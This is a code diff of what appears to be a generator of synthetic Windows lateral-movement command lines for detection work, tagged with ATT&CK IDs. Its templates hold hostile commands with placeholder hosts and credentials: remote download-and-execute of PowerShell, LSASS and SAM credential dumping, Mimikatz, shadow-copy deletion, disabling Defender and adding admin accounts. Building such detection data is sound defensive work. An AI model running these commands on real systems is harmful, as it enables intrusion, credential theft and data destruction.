@@ -27,8 +27,6 @@ wmic process call create "C:\Windows\Temp\@word@.exe"
 wmic /node:@ip@ process where name="«MsMpEng.exe|sqlservr.exe|veeam»" delete
 wmic /node:@ip@ service where name="«Sense|VeeamBackupSvc|MSSQLSERVER»" call stopservice
 wmic /node:@host@ path win32_terminalservicesetting where (__class!="") call setallowtsconnections 1
-wmic /node:@ip@ /user:@user@ /password:@pw@ os call win32shutdown 6
-wmic /node:@host@ product call install "\\@ip@\c$\@word@.msi"
 powershell -nop -c "Invoke-WmiMethod -ComputerName @ip@ -Class Win32_Process -Name Create -ArgumentList 'cmd /c C:\Windows\Temp\@word@.exe'"
 powershell -c "Invoke-CimMethod -ComputerName @host@ -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='C:\Users\Public\@word@.exe'}"
 powershell -w hidden -c "([wmiclass]'\\@ip@\root\cimv2:Win32_Process').Create('powershell -enc ⟦iex(irm @url@)⟧')"
@@ -62,7 +60,6 @@ C:\Windows\system32\cmd.exe /Q /c echo cd ^> \\127.0.0.1\C$\__output 2^>^&1 > C:
 cmd.exe /Q /c echo net user @word@ @pw@ /add ^> \\127.0.0.1\ADMIN$\__output_@word@ 2^>^&1 > %TEMP%\@word@.bat & cmd.exe /Q /c %TEMP%\@word@.bat
 C:\Windows\system32\cmd.exe /c echo @hex@ > \\.\pipe\@word@
 %COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -encodedcommand ⟦$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAA'));IEX (New-Object IO.StreamReader($s)).ReadToEnd()⟧
-C:\Windows\PSEXESVC.exe
 C:\Windows\@word@.exe
 \\127.0.0.1\ADMIN$\@hex@.exe
 \\@ip@\ADMIN$\@word@.exe
@@ -102,11 +99,8 @@ powershell -nop -c "Invoke-SMBExec -Target @ip@ -Domain @domain@ -Username @user
 told("lateral-services-made-afar", lateral("T1569.002", "T1543.003", "T1021.002"), r"""
 sc \\@ip@ create @word@ binPath= "C:\Windows\Temp\@word@.exe" start= auto
 sc.exe \\@host@ create @Word@Svc binpath= "cmd.exe /c powershell -nop -w hidden -enc ⟦iex(iwr @url@)⟧"
-sc \\@ip@ start @word@
 sc \\@host@ config «SessionEnv|IKEEXT|SensorService» binPath= "C:\ProgramData\@word@.exe"
-sc \\@ip@ config RemoteRegistry start= demand & sc \\@ip@ start RemoteRegistry
 sc.exe \\@host@ create «WinDefendUpdate|svchost|PSEXESVC|HPSupportSvc» binPath= "\\@ip@\share\@word@.exe" type= own
-sc \\@ip@ delete @word@
 cmd /c for /f %i in (@tmp@hosts.txt) do sc \\%i create @word@ binPath= "C:\Windows\@word@.exe" & sc \\%i start @word@
 @tmp@SharpSC.exe action=create computername=@host@ service=@word@ displayname=@Word@ binpath=C:\Windows\Temp\@word@.exe
 @tmp@SCShell.exe @ip@ XblAuthManager "C:\Windows\System32\cmd.exe /c C:\Windows\Temp\@word@.bat" @domain@ @user@ @pw@
@@ -117,9 +111,7 @@ powershell -c "Invoke-Command -ComputerName @host@ {New-Service -Name @word@ -Bi
 told("lateral-tasks-made-afar", lateral("T1053.005", "T1021.002"), r"""
 schtasks /create /s @ip@ /tn @word@ /tr "C:\Windows\Temp\@word@.exe" /sc once /st 00:00 /ru SYSTEM
 schtasks /create /s @host@ /u @domain@\@user@ /p @pw@ /tn "@Word@" /tr "cmd /c C:\ProgramData\@word@.bat" /sc onstart /ru system /f
-schtasks /run /s @ip@ /tn @word@
 SCHTASKS /s @host@ /RU "SYSTEM" /create /tn "WindowsUpdate" /tr "powershell.exe -nop -w hidden -f C:\Users\Public\@word@.ps1" /sc ONCE /sd 01/01/1970 /st 00:00
-schtasks /delete /s @ip@ /tn @word@ /f
 schtasks /create /s @dc@ /tn @word@ /xml C:\Windows\Temp\@word@.xml /ru system
 cmd /c for /f %i in (@tmp@servers.txt) do schtasks /create /s %i /tn @word@ /tr "C:\Windows\Temp\@word@.exe" /sc daily /st @n@:00 /ru system & schtasks /run /s %i /tn @word@
 at \\@ip@ @n@:00 C:\Windows\Temp\@word@.exe
@@ -168,19 +160,16 @@ extrac32 /Y /C \\@ip@\share\@word@.txt C:\folder\@word@.txt
 makecab \\@ip@\share\@word@.exe C:\windows\temp\@word@.cab
 print /D:C:\ADS\@word@.exe \\@ip@\share\@word@.exe
 @tmp@psftp.exe -pw @pw@ @user@@@ip@ & @tmp@pscp.exe @word@ root@@ip@:/tmp/
-""", parents=STRANGE + ("cmd.exe",), users=(None, "SYSTEM"), most=3)
+""", parents=STRANGE, users=(None, "SYSTEM"), most=3)
 
 told("lateral-remote-management", lateral("T1021.006", "T1059.001"), r"""
 winrs -r:@ip@ -u:@domain@\@user@ -p:@pw@ "cmd /c C:\Windows\Temp\@word@.exe"
 winrs.exe -r:@host@ -ad powershell -nop -w hidden -enc ⟦IEX (iwr @url@)⟧
 winrs -r:http://@ip@:5985 -u:administrator -p:@pw@ whoami
-powershell -c "Enter-PSSession -ComputerName @ip@ -Credential (New-Object PSCredential('@user@',(ConvertTo-SecureString '@pw@' -AsPlainText -Force)))"
 powershell -nop -w hidden -c "Invoke-Command -ComputerName @host@ -ScriptBlock {IEX (iwr @url@ -UseBasicParsing)}"
 powershell -c "icm -cn (gc @tmp@pcs.txt) {Set-MpPreference -DisableRealtimeMonitoring 1; C:\Windows\Temp\@word@.exe}"
 powershell -c "icm @dc@ {ntdsutil 'ac i ntds' 'ifm' 'create full C:\Windows\Temp\@word@' q q}"
 powershell -ep bypass -c "$s=New-PSSession -ComputerName @ip@; Invoke-Command -Session $s -FilePath @tmp@Invoke-Mimikatz.ps1"
-powershell -c "Set-Item WSMan:\localhost\Client\TrustedHosts * -Force; Enable-PSRemoting -Force"
-winrm set winrm/config/client @{TrustedHosts="*"}
 wsman invoke Create wmicimv2/Win32_Process @{CommandLine="C:\Windows\Temp\@word@.exe"} -r:http://@ip@:5985
 cscript //nologo "C:\Windows\System32\winrm.vbs" invoke Create wmicimv2/Win32_Process @{CommandLine="powershell -enc ⟦whoami⟧"} -r:http://@host@:5985
 winrm invoke Create wmicimv2/Win32_Process @{CommandLine="calc";CurrentDirectory="C:\"} -r:http://@ip@:5985
@@ -192,21 +181,18 @@ ruby.exe @tmp@evil-winrm.rb -i @ip@ -u administrator -p @pw@ -s C:\Users\Public
 """, parents=FOOTHOLD, users=(None, "SYSTEM"), most=2)
 
 told("lateral-shell-of-remote-management", lateral("T1021.006", "T1059.001"), r"""
-C:\Windows\system32\cmd.exe /C whoami /all
 cmd.exe /c C:\Windows\Temp\@word@.exe
 powershell.exe -nop -w hidden -enc ⟦IEX (New-Object Net.WebClient).DownloadString('@url@')⟧
 cmd.exe /c net user @word@ @pw@ /add & net localgroup administrators @word@ /add
-whoami.exe /priv
 net.exe localgroup administrators @domain@\@word@ /add
 reg.exe save HKLM\SAM C:\Windows\Temp\@word@.tmp
 rundll32.exe C:\Windows\System32\comsvcs.dll,MiniDump @pid@ C:\Windows\Temp\@word@.bin full
 cmd.exe /c vssadmin delete shadows /all /quiet
 C:\Users\Public\@word@.exe -d
-nltest.exe /domain_trusts
 certutil.exe -urlcache -f @url@.exe C:\Windows\Temp\@word@.exe
 schtasks.exe /create /tn @word@ /tr C:\ProgramData\@word@.exe /sc onlogon /ru system
 powershell.exe -c "Set-MpPreference -DisableRealtimeMonitoring $true"
-""", parents=("wsmprovhost.exe", "winrshost.exe"), least=2, most=6)
+""", parents=("wsmprovhost.exe", "winrshost.exe"), most=5)
 
 told("lateral-component-objects", lateral("T1021.003", "T1059.001"), r"""
 powershell -nop -c "$c=[activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application','@ip@')); $c.Document.ActiveView.ExecuteShellCommand('cmd.exe',$null,'/c C:\Windows\Temp\@word@.exe','7')"
